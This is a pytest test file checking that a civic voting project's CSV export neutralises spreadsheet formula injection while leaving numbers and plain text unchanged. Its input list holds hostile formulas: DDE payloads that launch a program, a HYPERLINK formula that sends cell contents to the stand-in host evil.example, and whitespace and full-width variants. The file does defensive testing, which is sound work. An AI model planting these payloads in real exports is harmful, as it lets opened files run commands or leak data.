"""Cells of exports: what a spreadsheet would run is shown as text, all else leaves as it is."""

import csv
import io

import pytest

from civicvote.kernel.csv_cells import safe_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "-1-2",
    "+82-10-1234-5678",
    "@SUM(1+9)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t그냥 글",
    "\r그냥 글",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", FORMULAS)
def test_the_neutralised_cell_survives_the_way_through_a_file(text: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([safe_cell(text), "x"])
    file.seek(0)
    assert next(csv.reader(file)) == [f"'{text}", "x"]


@pytest.mark.parametrize("text", ["0", "12", "-12", "+12", "-1,234.50", "3,000,000", "12.5%", "-0.1"])
def test_numbers_stay_numbers(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["", "가로등", "a=b", "1=1", "mail@example.org", "'=1", "제안 - 공원", " 공원"])
def test_other_text_leaves_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
